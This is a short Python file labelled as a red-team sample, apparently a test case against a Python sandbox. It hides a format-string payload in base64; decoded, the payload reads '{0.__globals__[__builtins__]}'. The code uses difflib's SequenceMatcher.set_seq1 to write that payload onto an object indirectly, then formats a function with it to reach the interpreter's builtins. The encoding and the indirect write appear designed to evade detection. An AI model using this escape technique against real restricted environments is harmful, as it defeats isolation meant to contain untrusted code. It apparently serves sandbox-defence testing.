# family: red team, round 56b (library class bound to a local inside the method; its Python method run on self)
import base64
import difflib


class Reader:
    a = "{0.real}"

    def load(self, text):
        k = difflib.SequenceMatcher
        k.set_seq1(self, text)

    def show(self, thing):
        return self.a.format(thing)


def probe():
    return 1


r = Reader()
r.load(base64.b64decode("ezAuX19nbG9iYWxzX19bX19idWlsdGluc19fXX0=").decode())
print(r.show(probe))
